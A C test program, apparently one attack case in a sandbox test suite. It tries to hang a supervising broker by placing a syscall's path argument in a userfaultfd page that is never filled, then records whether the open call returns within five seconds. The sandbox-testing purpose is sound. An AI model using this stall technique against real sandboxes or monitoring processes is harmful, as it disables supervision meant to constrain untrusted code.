// Attack: stall the broker on the workload's own memory. A path kept in a
// page registered with userfaultfd and never filled would make a reader
// from outside (the broker's process_vm_readv) wait for the workload's fault
// handler, which never answers. Tried with a kernel-mode userfaultfd (needs
// CAP_SYS_PTRACE or vm.unprivileged_userfaultfd) and a user-mode-only one
// (UFFD_USER_MODE_ONLY: faults of kernel code, the broker's read among them,
// are not handed to it). Where one is made, a thread opens the path in the
// missing page while the main thread waits 5 s and never resolves it:
//   uffd, uffd-user          the userfaultfd calls
//   open-on-missing-page     the open's answer (it must come, whatever it is)
//   answered-within-5s yes|no
#include "attack.h"

#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

static char* page;
static volatile int answered;

static void* opener(void* arg) {
  (void)arg;
  outcome("open-on-missing-page", open(page, O_RDONLY | O_CLOEXEC));
  answered = 1;
  return NULL;
}

static int make(const char* name, int flags) {
  int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | flags);
  outcome(name, fd);
  if (fd < 0) return -1;
  struct uffdio_api api = {.api = UFFD_API};
  if (ioctl(fd, UFFDIO_API, &api) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

int main(void) {
  int fd = make("uffd", 0);
  if (fd < 0) fd = make("uffd-user", UFFD_USER_MODE_ONLY);
  if (fd >= 0) {
    page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register reg = {.range = {(unsigned long)page, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    outcome("register", ioctl(fd, UFFDIO_REGISTER, &reg));
    pthread_t t;
    pthread_create(&t, NULL, opener, NULL);
    for (int i = 0; i < 50 && !answered; i++) usleep(100 * 1000);
    say("answered-within-5s %s", answered ? "yes" : "no");
    if (!answered) {
      // Give the page, so the thread can end (the test reads the answer above).
      static char fill[4096] = "/etc/hostname";
      struct uffdio_copy copy = {.dst = (unsigned long)page, .src = (unsigned long)fill, .len = 4096};
      ioctl(fd, UFFDIO_COPY, &copy);
    }
    pthread_join(t, NULL);
  }
  say("finished ok");
  return 0;
}
